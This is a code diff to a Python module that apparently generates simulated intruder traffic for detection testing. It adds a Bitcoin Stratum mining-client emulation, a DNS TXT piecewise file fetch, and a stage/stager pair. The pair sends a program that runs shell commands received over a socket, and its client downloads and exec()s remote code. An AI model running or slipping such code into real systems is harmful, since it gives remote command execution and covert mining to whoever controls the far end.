@@ -1,6 +1,7 @@
 """agent.py DEED ARGUMENTS…: small intruders for which there is no package, or whose package does more than a test
 should, and the far ends they need. Each function is a deed."""
 import base64
+import json
 import os
 import random
 import socket
@@ -111,6 +112,16 @@ def pool(address, port):
         f.flush()
 
 
+def miner_bitcoin(address, port):
+    """Stratum as for Bitcoin, without a word of JSON-RPC's version."""
+    f = socket.create_connection((address, int(port))).makefile("rwb")
+    for n, (method, words) in enumerate([("mining.subscribe", ["cpuminer/2.5.1"]), ("mining.authorize", ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT.w1", "x"])] + [("mining.submit", ["w1", "7", "00000001", "504e86ed", os.urandom(4).hex()])] * 6):
+        f.write(json.dumps({"id": n, "method": method, "params": words}).encode() + b"\n")
+        f.flush()
+        f.readline()
+        time.sleep(2)
+
+
 def miner(address, port):
     f = socket.create_connection((address, int(port))).makefile("rwb")
     f.write(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4%s","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}\n' % (b"8" * 94))
@@ -121,6 +132,39 @@ def miner(address, port):
         f.write(b'{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"a1","job_id":"7","nonce":"%08x","result":"%s"}}\n' % (n, n, os.urandom(32).hex().encode()))
         f.flush()
         f.readline()
+
+
+def stage(address, port):
+    """Sends a program with its size before it, as stagers take it, then asks for things in pieces of type, size, value."""
+    c = listen(address, port).accept()[0]
+    program = b"while True:\n k,n=struct.unpack('>II',s.recv(8));q=s.recv(n)\n r=subprocess.run(q,shell=True,capture_output=True).stdout\n s.sendall(struct.pack('>II',k,len(r))+r)\n".ljust(20000)
+    c.sendall(struct.pack(">I", len(program)) + program)
+    c.settimeout(2)
+    for n, command in enumerate(COMMANDS[:-1] * 2):
+        time.sleep(random.uniform(.5, 3))
+        c.sendall(struct.pack(">II", n, len(command)) + command)
+        try:
+            while c.recv(65536):
+                pass
+        except TimeoutError:
+            pass
+    c.close()
+
+
+def stager(address, port):
+    s = socket.create_connection((address, int(port)))
+    size, program = struct.unpack(">I", s.recv(4))[0], b""
+    while len(program) < size:
+        program += s.recv(size - len(program))
+    import subprocess
+    exec(program, {"s": s, "struct": struct, "subprocess": subprocess})
+
+
+def dnspull(zone, count):
+    """Fetches a file piece by piece in answers of TXT."""
+    for n in range(int(count)):
+        ask(f"{n}.f.{zone}", 16)
+        time.sleep(.1)
 
 
 def vrfy(address, count):
